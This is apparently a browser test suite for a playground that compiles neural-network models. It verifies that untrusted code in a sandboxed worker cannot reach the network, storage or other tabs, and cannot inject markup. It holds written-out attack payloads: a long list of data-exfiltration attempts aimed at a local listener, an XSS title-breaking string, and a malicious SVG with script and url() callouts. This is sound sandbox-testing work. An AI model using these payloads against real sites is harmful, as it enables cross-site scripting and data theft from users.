// What a stranger's model can do: the page is attacked in a real browser, and a listener must hear nothing.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, onTestFinished } from 'vitest';
import { it } from './browser.js';
import { compile, open, PATIENCE, pasteSource, playground, SOURCE, text } from './playground.js';

const site = playground();

interface Listener {
  /** An address of it, without what stands before the host. */
  readonly host: string;
  /** Everything that came, by TCP or UDP. */
  readonly heard: string[];
}

/** Takes whatever is sent, and would let any page read its answer. */
async function listener(): Promise<Listener> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.setHeader('Content-Type', 'text/javascript');
    response.end('1');
  });
  server.on('upgrade', (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const udp = createSocket('udp4').on('message', () => heard.push('udp'));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', () => resolve()));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
    udp.close();
  });
  return { host: `127.0.0.1:${port}`, heard };
}

/** Everything that code in a worker can try, each with what came of it. `HOST` is the listener, `HOME` the page's own host. */
const ATTACKS = `
const tried = {};
const attempt = async (name, act) => {
  try {
    const result = act();
    const late = new Promise((resolve) => setTimeout(() => resolve('no answer'), 700));
    tried[name] = 'done: ' + String(await Promise.race([result, late])).slice(0, 80);
  } catch (error) {
    tried[name] = 'refused: ' + String(error.message ?? error).slice(0, 80);
  }
};
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const settles = (target) => new Promise((resolve, reject) => {
  target.onopen = target.onload = target.onmessage = () => resolve('reached');
  target.onerror = () => reject(new Error('error event'));
});
for (const host of [HOST, HOME]) {
  const http = 'http://' + host + '/';
  await attempt('fetch ' + host, () => fetch(http + 'fetch?secret'));
  await attempt('fetch no-cors ' + host, () => fetch(http + 'no-cors', { mode: 'no-cors', method: 'POST', body: 'x' }));
  await attempt('fetch keepalive ' + host, () => fetch(http + 'keepalive', { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' }));
  await attempt('XHR ' + host, () => { const x = new XMLHttpRequest(); x.open('GET', http + 'xhr', false); x.send(); return x.status; });
  await attempt('WebSocket ' + host, () => settles(new WebSocket('ws://' + host + '/ws')));
  await attempt('WebSocketStream ' + host, () => new WebSocketStream('ws://' + host + '/wss').opened);
  await attempt('EventSource ' + host, () => settles(new EventSource(http + 'events')));
  await attempt('sendBeacon ' + host, () => navigator.sendBeacon(http + 'beacon', 'x'));
  await attempt('importScripts ' + host, () => importScripts(http + 'scripts'));
  await attempt('import ' + host, () => import(http + 'import.js'));
  await attempt('import in a blob ' + host, () => import(blob('import "' + http + 'static.js"')));
  await attempt('Worker ' + host, () => settles(new Worker(http + 'worker.js')));
  await attempt('module Worker ' + host, () => settles(new Worker(http + 'worker.js', { type: 'module' })));
  await attempt('Worker of a data address ' + host, () => settles(new Worker('data:text/javascript,fetch("' + http + 'data");postMessage(1)')));
  await attempt('SharedWorker ' + host, () => new SharedWorker(http + 'shared.js'));
  await attempt('FontFace ' + host, () => new FontFace('f', 'url(' + http + 'font)').load());
  await attempt('FontFace in fonts ' + host, () => { const f = new FontFace('f', 'url(' + http + 'font2)'); self.fonts.add(f); return self.fonts.load('12px f'); });
  await attempt('FontFace on a canvas ' + host, () => { self.fonts.add(new FontFace('g', 'url(' + http + 'font3)')); const c = new OffscreenCanvas(9, 9).getContext('2d'); c.font = '9px g'; c.fillText('x', 0, 9); return self.fonts.ready; });
  await attempt('CSS filter on a canvas ' + host, () => { const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + http + 'filter#f)'; c.fillRect(0, 0, 9, 9); return c.filter; });
  await attempt('image of an SVG ' + host, () => createImageBitmap(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + http + 'image"/></svg>'], { type: 'image/svg+xml' })));
  await attempt('Image ' + host, () => { new Image().src = http + 'img'; });
  await attempt('WebTransport ' + host, () => new WebTransport('https://' + host + '/wt').ready);
  await attempt('RTCPeerConnection ' + host, async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); });
  await attempt('WebAssembly streaming ' + host, () => WebAssembly.compileStreaming(fetch(http + 'wasm')));
  await attempt('location ' + host, () => { self.location = http + 'location'; });
  await attempt('location.href ' + host, () => { self.location.href = http + 'href'; });
  await attempt('open ' + host, () => self.open(http + 'open'));
  await attempt('clients ' + host, () => self.clients.openWindow(http + 'window'));
  await attempt('service worker ' + host, () => navigator.serviceWorker.register(http + 'sw.js'));
  await attempt('Cache ' + host, () => caches.open('x').then((cache) => cache.add(http + 'cache')));
  await attempt('background fetch ' + host, () => self.registration.backgroundFetch.fetch('x', [http + 'bg']));
  await attempt('notification ' + host, () => new Notification('x', { icon: http + 'icon', image: http + 'image' }));
  for (const [name, code] of [['worker', ''], ['module worker', 'module']])
    await attempt('fetch in a ' + name + ' of a blob ' + host, () => settles(new Worker(blob('fetch("' + http + 'inner").then(() => postMessage(1)); try { importScripts("' + http + 'inner2") } catch {}; new Worker(URL.createObjectURL(new Blob(["fetch(\\'' + http + 'inner3\\')"])))'), { type: code || 'classic' })));
  await attempt('two times eval ' + host, () => (0, eval)('fetch("' + http + 'eval")'));
}
`;

/** A model whose names are markup. */
const EVIL = '"></title><meta http-equiv="refresh" content="0;url=/away"><img src=/a onerror=alert(1)>';
const NAMED = SOURCE.replace("name: 'names'", `name: ${JSON.stringify(EVIL)}`)
  .replace('model: nn.sequential(', `model: { ${JSON.stringify(EVIL)}: nn.sequential(`)
  .replace(/^ {4}\),$/m, '    ) },')
  .replaceAll('model(x)', `model[${JSON.stringify(EVIL)}](x)`);

describe("a stranger's model", () => {
  for (const [host, isolated] of [
    ['a host that sends the headers', true],
    ['a host that sends none', false],
  ] as const) {
    it(`sends nothing by any way out that a worker has, on ${host}`, async ({ browser }) => {
      const { host: HOST, heard } = await listener();
      const { headers } = site.options;
      Object.assign(site.options, { isolated, headers: isolated ? headers : {} });
      onTestFinished(() => void Object.assign(site.options, { isolated: true, headers }));
      const context = await browser.newContext({ serviceWorkers: 'block' });
      onTestFinished(() => context.close());
      const page = await context.newPage();
      await open(page, site);
      const HOME = new URL(site.server.url).host;
      const before = site.server.requests.length;
      await pasteSource(
        page,
        `export default async () => { const HOST = '${HOST}', HOME = '${HOME}'; ${ATTACKS}
          throw new Error(JSON.stringify(tried)); };`,
      );
      await page.click('#compile');
      await expect.poll(() => text(page, 'compiled'), PATIENCE).toBe('Not compiled.');
      await page.waitForTimeout(500);
      expect(heard).toEqual([]);
      expect(site.server.requests.slice(before)).toEqual([]);
      expect(page.url(), 'the page stays where it is').toBe(site.server.url);
      expect(context.pages()).toHaveLength(1);
      // The way that every model may go is not closed.
      expect(await text(page, 'alert')).toMatch(/"fetch [^"]+":"refused: Failed to fetch"/);
    });
  }

  it("reaches neither the page's storage nor its other tabs", async ({ page, context }) => {
    await open(page, site);
    const other = await context.newPage();
    onTestFinished(() => other.close());
    await other.goto(`${site.server.url}theme.js`);
    await other.evaluate(() => {
      localStorage.setItem('mine', 'secret');
      new BroadcastChannel('tabs').onmessage = ({ data }) => localStorage.setItem('heard', String(data));
    });
    await pasteSource(
      page,
      `const attempt = async (act) => { try { return String(await act()); } catch (error) { return 'refused'; } };
       const answer = (request) => new Promise((resolve, reject) => {
         request.onsuccess = () => resolve('opened'); request.onerror = () => reject(new Error('error')); });
       export default async () => { throw new Error(JSON.stringify([
         self.origin,
         await attempt(() => caches.open('2headgrad').then(() => 'opened')),
         await attempt(() => answer(indexedDB.open('x'))),
         await attempt(() => navigator.storage.getDirectory().then(() => 'opened')),
         await attempt(() => navigator.locks.request('x', () => 'held')),
         await attempt(() => localStorage.getItem('mine')),
         await attempt(() => { const tabs = new BroadcastChannel('tabs'); tabs.postMessage('here'); return 'sent'; }),
       ])); };`,
    );
    await page.click('#compile');
    await expect.poll(() => text(page, 'alert'), PATIENCE).toMatch(/null/);
    const [origin, ...found] = JSON.parse(/\[.*\]/.exec(await text(page, 'alert'))?.[0] ?? '[]');
    expect(origin).toBe('null');
    expect(found.slice(0, -1)).toEqual(Array(5).fill('refused'));
    await page.waitForTimeout(300);
    expect(await other.evaluate(() => localStorage.getItem('heard'))).toBeNull();
  });

  it('puts no markup into the page by the names that it gives', async ({ page }) => {
    await open(page, site);
    await pasteSource(page, NAMED);
    await compile(page);
    await expect.poll(() => page.locator('#view-graph svg text').count(), PATIENCE).toBeGreaterThan(50);
    expect((await page.locator('#view-graph svg text').allTextContents()).join('')).toContain('<meta');
    await page.waitForTimeout(300);
    expect(await page.locator('#inside :is(meta, img, image, a, script, iframe)').count()).toBe(0);
    expect(page.url()).toBe(site.server.url);
  });

  it('is drawn in shapes alone, whatever comes as the drawing', async ({ page, problems }) => {
    const { host, heard } = await listener();
    const address = `http://${host}/`;
    await open(page, site);
    await page.route(/\/assets\/compiler-.*\.js$/, async (route) => {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90pt" viewBox="0 0 9 9" onload="fetch('${address}1')" style="background:url(${address}2)">
        <style>@import url(${address}3); text { fill: url(${address}4) }</style><script>fetch('${address}5')</script>
        <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=${address}6"/><img src="${address}7"/><form action="${address}8"><button id="go">Train</button></form></body></foreignObject>
        <image href="${address}9"/><image xlink:href="${address}10"/><use href="${address}11#x"/><feImage href="${address}12"/>
        <a href="${address}13" target="_top"><text x="1" y="1">shown</text></a><animate attributeName="href" to="${address}14"/>
        <g class="node" id="compile" fill="url(${address}15)" filter="url(${address}16)" cursor="url(${address}17)"><path d="M0 0L9 9" marker-end="url(${address}18)" stroke="red" style="mask:url(${address}19)"/></g></svg>`;
      const response = await route.fetch();
      const body = (await response.text()).replace(
        /draw: [^\n]*,/,
        () => `draw: async () => ${JSON.stringify(svg)},`,
      );
      expect(body).toContain('async () => "<svg');
      await route.fulfill({ response, body });
    });
    await page.reload();
    await expect.poll(() => text(page, 'words-said'), PATIENCE).toMatch(/names/);
    await pasteSource(page, NAMED);
    await compile(page);
    await expect.poll(() => page.locator('#view-graph svg text').count(), PATIENCE).toBe(1);
    await page.waitForTimeout(500);
    const drawn = await page.locator('#view-graph').innerHTML();
    expect(drawn).toContain('<text x="1" y="1">shown</text>');
    // Its handlers are refused as it is read.
    problems.take(/inline event handler/);
    expect(drawn).not.toMatch(/href|url|style|script|foreignObject|image|meta|onload|id=|127\.0\.0\.1/i);
    expect(heard).toEqual([]);
    expect(page.url()).toBe(site.server.url);
  });

  it('says no more in an error than one can read', async ({ page }) => {
    await open(page, site);
    await pasteSource(page, `export default () => { throw new Error('x'.repeat(3_000_000)); };`);
    await page.click('#compile');
    await expect.poll(() => text(page, 'alert'), PATIENCE).toMatch(/xxx/);
    expect((await text(page, 'alert')).length).toBeLessThan(5000);
  });
});
